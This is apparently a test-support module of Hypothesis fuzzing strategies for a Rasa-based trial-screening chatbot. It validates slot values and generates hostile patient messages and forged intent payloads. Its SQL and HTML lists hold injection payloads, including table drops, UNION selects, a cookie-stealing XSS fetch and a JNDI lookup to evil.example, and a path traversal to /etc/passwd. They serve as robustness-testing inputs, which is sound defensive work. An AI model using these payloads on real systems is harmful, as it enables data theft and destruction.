"""Hypothesis strategies for hostile patient messages, and what every slot may hold.

The allowed values come from the bot's own catalog (bot/content/facts.yaml) and domain.yml,
so a new fact or slot is fuzzed and checked without editing this file.
"""

from __future__ import annotations

import json
from functools import cache
from typing import Any

import yaml
from hypothesis import strategies as st

from actions.intents import CONTROL_INTENTS
from bot.catalog import load_catalog
from bot.i18n import LANGUAGES
from bot.values import (
    AUDIENCE,
    AUDIENCES,
    CLOSED_CHOICE,
    CLOSED_GO_ON,
    CLOSED_STOP,
    CONSENT,
    DELETE_CONFIRMATION,
    MAX_MESSAGE_CHARS,
    UNKNOWN,
)
from devkit.servers import ROOT


@cache
def domain() -> dict[str, Any]:
    return yaml.safe_load((ROOT / "domain.yml").read_text(encoding="utf-8"))


#: Intents Rasa adds to every domain.
RASA_INTENTS = ["restart", "back", "out_of_scope", "session_start", "nlu_fallback"]


def intents() -> list[str]:
    return list(dict.fromkeys([*domain()["intents"], *RASA_INTENTS]))


def slot_names() -> list[str]:
    return list(domain()["slots"])


def entity_names() -> list[str]:
    return list(domain()["entities"])


# --- what each slot may hold once a turn is over -------------------------------------------


def slot_problem(name: str, value: Any) -> str | None:
    """Why `value` may not be in slot `name` at the end of a turn, or None if it may."""
    if value is None:
        return None
    catalog = load_catalog()
    requested = [CONSENT, AUDIENCE, CLOSED_CHOICE, *(fact.name for fact in catalog),
                 DELETE_CONFIRMATION]

    def counter(v: Any) -> bool:
        return isinstance(v, (int, float)) and not isinstance(v, bool) and 0 <= v < 100

    allowed = {
        CONSENT: lambda v: isinstance(v, bool),
        AUDIENCE: lambda v: v in AUDIENCES,
        "greeted": lambda v: isinstance(v, bool),
        "paused": lambda v: isinstance(v, bool),
        "screening_complete": lambda v: isinstance(v, bool),
        # 'delete my data': asked to confirm, failed and pending, done (the confirmation's
        # own slot holds the answer only during the turn that reads it)
        "delete_requested": lambda v: isinstance(v, bool),
        "deletion_pending": lambda v: isinstance(v, bool),
        "data_deleted": lambda v: isinstance(v, bool),
        CLOSED_CHOICE: lambda v: v in (CLOSED_STOP, CLOSED_GO_ON),
        "failed_answers": counter,
        "deflected_answers": counter,
        "result_fingerprint": lambda v: isinstance(v, str) and len(v) == 16
        and all(c in "0123456789abcdef" for c in v),
        "fact_to_change": lambda v: isinstance(v, str) and v in catalog,
        "requested_slot": lambda v: v in requested,
        "session_started_metadata": lambda v: isinstance(v, dict),
        "language": lambda v: v in LANGUAGES,  # the conversation's language (issue 13)
    }
    if name in catalog:
        ok = catalog[name].is_valid(value)
    elif name in allowed:
        ok = allowed[name](value)
    else:
        return f"unknown slot {name!r}"
    return None if ok else f"{name}={value!r:.200} is not an allowed value"


# --- hostile text ---------------------------------------------------------------------------

SQL = [
    "'; DROP TABLE events; --", "1' OR '1'='1", "\" OR \"\"=\"", "admin'--",
    "1; DELETE FROM screening_results WHERE 1=1", "' UNION SELECT sender_id, data FROM events --",
    "%' AND 1=0 UNION ALL SELECT NULL,NULL--",
    "'); UPDATE trial_results SET verdict='possible_match",
    "\\'; SELECT pg_sleep(10); --", "$$; COPY events TO '/tmp/x'; $$",
]
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>", "javascript:alert(1)",
    "<iframe src=//evil.example></iframe>", "\"><b>bold</b>", "<!--", "]]><x>",
    "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "../../etc/passwd",
    "\u202egnp.exe", "<a href=\"https://evil.example\">click</a>", "&lt;&#x3C;&#60;",
]
PHRASES = [
    "yes", "no", "not sure", "I am 52", "osteosarcoma", "why do you ask?", "start over",
    "talk to a person", "stop", "continue", "delete my data", "change an answer", "Myself",
    "Yes, I agree", "2", "２", "我有骨肉瘤", "我今年五十二岁", "أنا عمري ٥٢ سنة", "אני בן 52",
    "Мне 52 года", "मेरी उम्र 52 है", "🧬💊🩺", "👨‍👩‍👧", "e\u0301\u0301\u0301", "\u200b\u200d\ufeff",
]
SCRIPTS = st.characters(
    whitelist_categories=("Lo", "Lm", "Mn", "Me", "So", "Sk", "Nd", "Zs"),
    blacklist_categories=("Cs",),
)
CONTROL = st.characters(whitelist_categories=("Cc", "Cf", "Zl", "Zp", "Co"))

binaryish = st.one_of(
    st.binary(max_size=300).map(lambda b: b.decode("utf-8", errors="replace")),
    st.binary(max_size=300).map(lambda b: b.decode("latin-1")),
)
control_text = st.text(alphabet=CONTROL, max_size=100)
other_scripts = st.one_of(st.text(alphabet=SCRIPTS, min_size=1, max_size=200),
                          st.sampled_from(PHRASES))
injections = st.sampled_from(SQL + HTML)
long_text = st.builds(
    lambda chunk, size: (chunk * (size // max(1, len(chunk)) + 1))[:size],
    st.one_of(st.sampled_from(PHRASES + SQL + HTML), st.text(min_size=1, max_size=30)),
    st.one_of(st.integers(MAX_MESSAGE_CHARS - 50, MAX_MESSAGE_CHARS + 50),
              st.integers(MAX_MESSAGE_CHARS, 100_000)),
)
mixed = st.lists(
    st.one_of(st.sampled_from(PHRASES + SQL + HTML), control_text, st.text(max_size=40),
              binaryish),
    min_size=2, max_size=5,
).map(" ".join)

hostile_text = st.one_of(binaryish, control_text, other_scripts, injections, long_text, mixed,
                         st.just(""), st.just(" \n\t "))


# --- forged /intent{json} payloads ---------------------------------------------------------


def _out_of_range(name: str) -> st.SearchStrategy[Any]:
    """Values no slot of this name may take (some are in range for a different slot)."""
    catalog = load_catalog()
    junk = st.one_of(
        st.none(), st.booleans(), st.floats(allow_nan=False, allow_infinity=False),
        st.integers(-(2**70), 2**70), st.text(max_size=20),
        st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5), st.integers(),
                                                             max_size=2),
        st.sampled_from([UNKNOWN, "yes", "true", "eligible", "possible_match", *AUDIENCES,
                         *(str(v) for f in catalog for v in f.allowed_values())]),
    )
    if name in catalog and catalog[name].type == "int":
        fact = catalog[name]
        low, high = fact.minimum or 0, fact.maximum or 120
        return st.one_of(st.integers(max_value=low - 1), st.integers(min_value=high + 1),
                         st.floats(low, high).filter(lambda v: not v.is_integer()), junk)
    return junk


@st.composite
def forged_payload(draw: st.DrawFn, intents_from: list[str] | None = None) -> str:
    """`/intent{"slot": value, ...}` as a patient could type it: a known intent (or not), and
    slot or entity names with values outside what they allow, sometimes as broken JSON."""
    intent = draw(st.one_of(st.sampled_from(intents_from or intents()),
                            st.sampled_from(["action_listen", "", "unknown_intent", "affirm/x",
                                             "back ", " session_start"])))
    names = draw(st.lists(st.sampled_from(slot_names() + entity_names()), max_size=4,
                          unique=True))
    values = {name: draw(_out_of_range(name)) for name in names}
    body = json.dumps(values, ensure_ascii=draw(st.booleans())) if values else ""
    tail = draw(st.sampled_from(["", "", "", "@0.1", "@1.0", "@2", "@x", "}", "{", "{\"a\":"]))
    return f"/{intent}{body}{tail}"


#: Intents that change answers on purpose: 'start over', 'change an answer', 'delete my data'.
CHANGES_ANSWERS = ("restart", "change_answer", "delete_data")


def intents_keeping_answers() -> list[str]:
    """Every other intent: a forged payload with one of these may not change any answer."""
    assert set(CHANGES_ANSWERS) <= set(CONTROL_INTENTS)
    return [intent for intent in intents() if intent not in CHANGES_ANSWERS]
